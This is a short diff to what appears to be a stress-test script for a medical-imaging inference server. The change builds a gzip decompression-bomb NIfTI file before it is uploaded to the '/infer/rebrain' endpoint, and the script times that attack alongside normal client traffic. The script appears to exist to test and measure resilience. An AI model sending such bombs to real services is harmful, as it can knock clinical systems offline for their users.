@@ -162,10 +162,11 @@ def main() -> None:
             started = time.perf_counter()
             for thread in watchers + clients:
                 thread.start()
+            bomb_file = nifti_bomb((2048, 2048, 512))
             time.sleep(2.0)
             attack_started = time.perf_counter()
             bomb = requests.post(f"{url}/infer/rebrain", params={"image": "upload"},
-                                 files={"file": ("bomb.nii.gz", nifti_bomb((2048, 2048, 512)), "application/gzip"), "params": (None, "{}")}, timeout=600)
+                                 files={"file": ("bomb.nii.gz", bomb_file, "application/gzip"), "params": (None, "{}")}, timeout=600)
             oversize = oversize_status(url, 1024**3)
             attack_seconds = time.perf_counter() - attack_started
             for thread in clients:
